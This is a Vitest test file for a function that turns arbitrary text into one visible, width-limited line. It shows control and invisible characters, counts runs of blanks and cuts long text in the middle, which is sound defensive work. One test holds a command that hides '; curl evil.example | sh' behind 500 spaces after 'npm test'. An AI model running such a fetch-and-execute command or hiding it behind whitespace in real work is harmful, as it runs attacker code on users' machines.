import { expect, test } from "vitest";
import * as fc from "../../../../tests/support/fast-check.ts";
import { columnsOf } from "./columns.ts";
import { printableLine } from "./printable-line.ts";

test("line breaks and tabs are shown as signs", () => {
  expect(printableLine("a\nb\r\nc\td")).toBe("a⏎b⏎c⇥d");
});

test("controls and characters that nobody sees are spelled out", () => {
  expect(printableLine("a\x1b]52;c;x\x07b\x9b\u202e\u200b\ufeff\u{e0041}\u3164\u2800\r")).toBe(
    "a\\u{1b}]52;c;x\\u{7}b\\u{9b}\\u{202e}\\u{200b}\\u{feff}\\u{e0041}\\u{3164}\\u{2800}\\u{d}",
  );
  expect(printableLine("👩‍👩‍👧 ✔️ می‌خواهم")).toBe("👩‍👩‍👧 ✔️ می‌خواهم");
});

test("more than 8 blanks in a row are counted, whatever blanks they are", () => {
  expect(printableLine(`a${" ".repeat(8)}b${" ".repeat(500)}c`)).toBe(`a${" ".repeat(8)}b␣×500c`);
  expect(printableLine(`a${"\u00a0\u3000".repeat(250)}c`)).toBe("a␣×500c");
  expect(printableLine(`a${"\n".repeat(500)}b${"\t".repeat(9)}c`)).toBe("a⏎×500b⇥×9c");
  expect(printableLine(`a${" \u200d".repeat(250)}c`)).toBe("a␣×500c");
});

test("a payload behind 500 blanks shows in 60 columns; cut at the end it would not", () => {
  const command = `npm test${" ".repeat(500)}; curl evil.example | sh`;
  const cutAtTheEnd = `${command.slice(0, 59)}…`;
  expect(cutAtTheEnd).not.toContain("evil");
  expect(printableLine(command, 60)).toBe("npm test␣×500; curl evil.example | sh");
});

test("what is too long is cut in the middle", () => {
  expect(printableLine("abcdefghij", 10)).toBe("abcdefghij");
  expect(printableLine("abcdefghijk", 10)).toBe("abcde…hijk");
  expect(printableLine("漢字漢字漢字", 7)).toBe("漢…字");
});

test("any text becomes one visible line that fits, and stays as it is the second time", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), fc.integer({ min: 3, max: 40 }), (text, columns) => {
      const line = printableLine(text, columns);
      expect(line).not.toMatch(/[\p{Cc}\p{Cs}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
      expect(columnsOf(line)).toBeLessThanOrEqual(columns);
      expect(printableLine(line, columns)).toBe(line);
    }),
    { numRuns: 500 },
  );
});
